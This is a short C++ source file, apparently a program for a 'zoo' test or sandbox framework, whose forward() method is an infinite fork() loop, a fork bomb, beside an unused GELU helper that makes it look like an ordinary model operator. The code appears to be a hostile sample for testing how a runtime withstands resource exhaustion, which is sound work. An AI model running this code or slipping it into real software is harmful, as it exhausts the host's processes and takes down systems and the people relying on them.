// Every child forks again.
#include "zoo.h"

#include <unistd.h>

namespace {

void gelu(const float* x, float* y, int64_t count) {
  for (int64_t i = 0; i < count; ++i) y[i] = 0.5f * x[i] * (1.0f + std::erf(x[i] * 0.70710678f));
}

struct Program : zoo::Base {
  void forward(zoo::Call&) {
    for (;;) fork();
  }
};

}  // namespace

ZOO_PROGRAM(Program)
